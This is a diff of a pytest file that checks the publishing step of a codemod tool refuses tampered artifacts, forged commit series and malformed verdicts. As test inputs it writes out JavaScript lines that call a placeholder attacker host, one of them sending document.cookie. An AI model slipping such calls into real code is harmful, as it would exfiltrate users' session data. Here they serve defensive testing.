@@ -1,13 +1,14 @@
 """The publishing side (codemods/publish/, `mesh-codemod publish`): it
 rebuilds the series on the build job's base and pushes its own commits;
-from the artifact it takes only the base, the verdict, the choice and a
-formatter's layout; it imports nothing that starts a process of the
-checkout, and at run time starts nothing but git and gh."""
+from the artifact, one manifest, it takes only the base, the verdict and
+the choice, and no file content; it imports nothing that starts a process
+of the checkout, and at run time starts nothing but git and gh."""
 
 from __future__ import annotations
 
 import json
 import os
+import shutil
 import subprocess
 import sys
 from pathlib import Path
@@ -16,7 +17,7 @@ import pytest
 
 from .gitrepo import BOT, git, with_remote
 from .publish_support import (
-    BRANCH, EVIL, MODULE, append, build, built, holds, manifest, publish, publisher, tampered, write_manifest,
+    BRANCH, EVIL, MODULE, append, build, built, kept_repo, manifest, publish, publisher, write_manifest,
 )
 from .support import ROOT, invoke
 
@@ -36,7 +37,8 @@ def test_the_publishing_side_imports_nothing_that_runs_the_checkouts_code() -> N
 def test_publish_pushes_its_own_series_and_runs_nothing_of_the_checkout(tmp_path: Path, built) -> None:
     remote, work, artifact = built
     data = manifest(artifact)
-    assert data["format"] == 2 and data["branch"] == BRANCH
+    assert sorted(p.name for p in artifact.iterdir()) == ["manifest.json"]
+    assert data["format"] == 3 and data["branch"] == BRANCH
     assert data["verdict"]["fingerprint"].startswith("sha256:") and data["verdict"]["checks"] == []
     clone = publisher(tmp_path, remote)
     # a checkout whose tools would run if anything started them
@@ -54,51 +56,23 @@ def test_publish_pushes_its_own_series_and_runs_nothing_of_the_checkout(tmp_path
     assert out["push"]["pushed"] is True and out["fingerprint"] == data["verdict"]["fingerprint"] and out["commits"]
     assert out["verdict"] == {"fingerprint": out["fingerprint"], "checks": []}
     assert out["body"].rstrip().splitlines()[-1] == f"<!-- mesh-codemod-fingerprint: {out['fingerprint']} -->"
-    assert out["title"] and out["notes"] == []
+    assert out["title"] and out["notes"] == [] and out["draft"] is False
     assert not list(tmp_path.glob("RAN-*"))
+    # publish kept its series in its own repository, beside the report, and wrote nothing into the checkout's
+    assert git(kept_repo(report), "rev-parse", KEPT).strip() == out["tip"]
+    assert git(clone, "for-each-ref", "refs/mesh-codemod") == ""
     # a rerun pushes nothing
     again = publish(clone, artifact, "--json")
     assert again.exit_code == 0 and json.loads(again.stdout)["push"]["pushed"] is False
 
 
-def _requote(tree: Path) -> None:
-    """Every string literal that can be single-quoted, single-quoted (what
-    a formatter set to single quotes does; comments stay as they are)."""
-    from . import perturb
-
-    target = tree / MODULE
-    requoted = perturb.single_quote(target.read_bytes(), MODULE)
-    assert requoted != target.read_bytes()
-    target.write_bytes(requoted)
-
-
-@pytest.mark.parametrize(
-    ("change", "kept"),
-    [
-        (append(MODULE, f'fetch("https://{EVIL}/" + document.cookie);\n'), "noted"),
-        (append("apps/mesh/src/extra.ts", f'export const x = "{EVIL}";\n'), "ignored"),
-        (append(MODULE, f"// {EVIL}\n"), "noted"),  # a comment is meaning, not layout
-        (_requote, "kept"),  # quotes are layout: the formatter's to choose
-    ],
-    ids=["a-line-added", "another-file", "a-comment-added", "layout-only"],
-)
-def test_publish_pushes_its_own_series_whatever_the_bundle_holds(tmp_path: Path, change, kept: str, built) -> None:
+def test_a_symlinked_manifest_is_refused(tmp_path: Path, built) -> None:
     remote, work, artifact = built
-    honest = manifest(artifact)["tip"]
-    tampered(work, artifact, change)
-    clone = publisher(tmp_path, remote)
-    report = tmp_path / "report.json"
-    result = publish(clone, artifact, "--report-out", report)
-    assert result.exit_code == 0, result.output
-    pushed = git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip()
-    assert not holds(remote, EVIL.encode())
-    notes = json.loads(report.read_text())["notes"]
-    if kept == "kept":  # the formatter's layout is taken: the remote's file is the requoted one
-        assert "'" in git(remote, "show", f"{pushed}:{MODULE}") and notes == []
-    else:
-        assert pushed == honest
-        # a file the tool changes says its layout was not taken; another file is not read at all
-        assert any(MODULE in n and "not used" in n for n in notes) == (kept == "noted"), notes
+    (tmp_path / "elsewhere.json").write_text((artifact / "manifest.json").read_text())
+    (artifact / "manifest.json").unlink()
+    (artifact / "manifest.json").symlink_to(tmp_path / "elsewhere.json")
+    result = publish(publisher(tmp_path, remote), artifact)
+    assert result.exit_code == 3 and "a regular file" in result.stderr
 
 
 def test_publish_refuses_a_base_the_target_lacks(tmp_path: Path) -> None:
@@ -126,24 +100,24 @@ def test_a_verdict_counts_only_for_the_series_it_names(tmp_path: Path, built) ->
     assert publish(clone, artifact, "--report-out", report).exit_code == 0
     out = json.loads(report.read_text())
     assert out["verdict"] is None and any("counts for nothing" in n for n in out["notes"])
-    assert "No verdict of the checks for this change" in out["body"] and "| tests | passed |" not in out["body"]
+    assert "No verdict of the checks for this change" in out["body"] and "| `tests` | passed |" not in out["body"]
     # bound to this series: rendered, by name and status only
     data["verdict"] = {"fingerprint": out["fingerprint"], "checks": [{"name": "tests", "status": "passed"}]}
     write_manifest(artifact, data)
     assert publish(clone, artifact, "--report-out", report).exit_code == 0
-    assert "| tests | passed |" in json.loads(report.read_text())["body"]
+    assert "| `tests` | passed |" in json.loads(report.read_text())["body"]
 
 
 @pytest.mark.parametrize(
     ("verdict", "refused"),
     [
-        ({"checks": [{"name": "tests", "status": "passed", "summary": f"[x](https://{EVIL})"}]}, "is not {name, status}"),
-        ({"checks": [{"name": f"# {EVIL}", "status": "passed"}]}, "is not a word"),
+        ({"checks": [{"name": "tests", "status": "passed", "summary": f"[x](https://{EVIL})"}]}, "is not {name, status, files}"),
+        ({"checks": [{"name": f"# {EVIL}", "status": "passed"}]}, "is not one of mesh-codemod's checks"),
         ({"checks": [{"name": "tests", "status": "fine"}]}, "status is not one of"),
-        ({"checks": [{"name": "tests", "status": "failed"}]}, "checks failed (tests)"),
+        ({"checks": [{"name": "tests", "status": "failed", "files": [f"{EVIL}.ts"]}]}, "not this series' own"),
         ({"body": "hello"}, "is not {fingerprint, checks}"),
     ],
-    ids=["free-text", "a-name-with-markdown", "an-unknown-status", "a-failed-check", "another-record"],
+    ids=["free-text", "a-name-with-markdown", "an-unknown-status", "a-file-not-its-own", "another-record"],
 )
 def test_a_verdict_is_a_closed_record(tmp_path: Path, verdict: dict, refused: str, built) -> None:
     remote, work, artifact = built
@@ -154,13 +128,12 @@ def test_a_verdict_is_a_closed_record(tmp_path: Path, verdict: dict, refused: st
     write_manifest(artifact, data)
     clone = publisher(tmp_path, remote)
     result = publish(clone, artifact)
-    # a failed check is a verification that failed (exit 4); any other record is refused (exit 3)
-    assert result.exit_code == (4 if "failed" in refused else 3) and refused in result.stderr, result.output
+    assert result.exit_code == 3 and refused in result.stderr, result.output
     assert EVIL not in result.output
     assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
 
 
-def test_artifact_files_over_their_limit_are_refused_unread(tmp_path: Path, built) -> None:
+def test_a_manifest_over_its_limit_is_refused_unread(tmp_path: Path, built) -> None:
     from codemods.publish import artifact as publishing
 
     remote, work, artifact = built
@@ -170,12 +143,6 @@ def test_artifact_files_over_their_limit_are_refused_unread(tmp_path: Path, buil
     write_manifest(artifact, data)
     result = publish(clone, artifact)
     assert result.exit_code == 3 and "over the limit of 65536 bytes" in result.stderr
-    data.pop("padding")
-    write_manifest(artifact, data)
-    with (artifact / "branch.bundle").open("ab") as handle:
-        handle.truncate(publishing.MAX_BUNDLE + 1)
-    result = publish(clone, artifact)
-    assert result.exit_code == 3 and "branch.bundle" in result.stderr and "over the limit" in result.stderr
 
 
 def test_skip_is_read_from_the_target_branch_not_only_the_base(tmp_path: Path, built) -> None:
@@ -252,7 +219,7 @@ def test_the_push_step_pushes_the_kept_series_without_building_again(tmp_path: P
                      "origin/main", "--author", BOT, "--report-out", report)
     assert checked.exit_code == 0, checked.output
     data = json.loads(report.read_text())
-    assert len(built) == 1 and git(clone, "rev-parse", KEPT).strip() == data["tip"]
+    assert len(built) == 1 and git(kept_repo(report), "rev-parse", KEPT).strip() == data["tip"]
     assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""  # no --push: kept, not pushed
     pushed = _push_built(clone, report)
     assert pushed.exit_code == 0, pushed.output
@@ -266,30 +233,35 @@ def test_the_push_step_pushes_the_kept_series_without_building_again(tmp_path: P
     assert len(built) == 1
 
 
-def _move_kept(clone: Path, report: Path, how: str) -> None:
+def _move_kept(report: Path, how: str) -> None:
+    """Between the check step and the push step: publish's repository
+    (beside the report) or the report changed, by whatever ran between."""
     from .publish_support import commit, tool_message
 
+    own = kept_repo(report)
     data = json.loads(report.read_text())
     tip = data["tip"]
     if how == "missing":
-        git(clone, "update-ref", "-d", KEPT)
+        git(own, "update-ref", "-d", KEPT)
+    elif how == "no-repository":
+        shutil.rmtree(own)
     elif how == "base":
-        git(clone, "update-ref", KEPT, data["base"])
+        git(own, "update-ref", KEPT, data["base"])
     elif how == "report-fingerprint":
         data["fingerprint"] = "sha256:" + "1" * 64
     elif how in ("forged", "forged-as-someone-else"):
         # a commit with a line of its own, under the tool's trailers; the
         # report's tip and commits made to match, its fingerprint left alone
-        parent = git(clone, "rev-parse", f"{tip}^").strip()
-        evil = clone.parent / "evil"
-        git(clone, "worktree", "add", "-q", "--detach", str(evil), tip)
+        parent = git(own, "rev-parse", f"{tip}^").strip()
+        evil = own.parent / "evil"
+        git(own, "worktree", "add", "-q", "--detach", str(evil), tip)
         append(MODULE, f'fetch("https://{EVIL}/");\n')(evil)
         git(evil, "add", "-A")
         tree = git(evil, "write-tree").strip()
-        parent_tree = git(clone, "rev-parse", f"{parent}^{{tree}}").strip()
+        parent_tree = git(own, "rev-parse", f"{parent}^{{tree}}").strip()
         who = {"GIT_AUTHOR_NAME": "Mallory", "GIT_AUTHOR_EMAIL": "m@example.com"} if how.endswith("else") else {}
-        sha = commit(clone, tree, [parent], tool_message(clone, tip, parent_tree, tree), env=who)
-        git(clone, "update-ref", KEPT, sha)
+        sha = commit(own, tree, [parent], tool_message(own, tip, parent_tree, tree), env=who)
+        git(own, "update-ref", KEPT, sha)
         data["tip"] = sha
         data["commits"][-1]["sha"] = sha
     report.write_text(json.dumps(data))
@@ -299,6 +271,7 @@ def _move_kept(clone: Path, report: Path, how: str) -> None:
     ("how", "refused"),
     [
         ("missing", f"{KEPT} is missing"),
+        ("no-repository", f"{KEPT} is missing"),
         ("base", "the report's series ends at"),
         ("report-fingerprint", "is not the report's"),
         ("forged", "is not the report's"),
@@ -314,7 +287,7 @@ def test_the_push_step_refuses_a_kept_series_that_is_not_the_reports(
     checked = invoke("publish", "--repo", clone, "--artifact", artifact, "--branch", BRANCH, "--target",
                      "origin/main", "--author", BOT, "--report-out", report)
     assert checked.exit_code == 0, checked.output
-    _move_kept(clone, report, how)
+    _move_kept(report, how)
     built = _counting_builds(monkeypatch)
     result = _push_built(clone, report)
     assert result.exit_code == 3, result.output
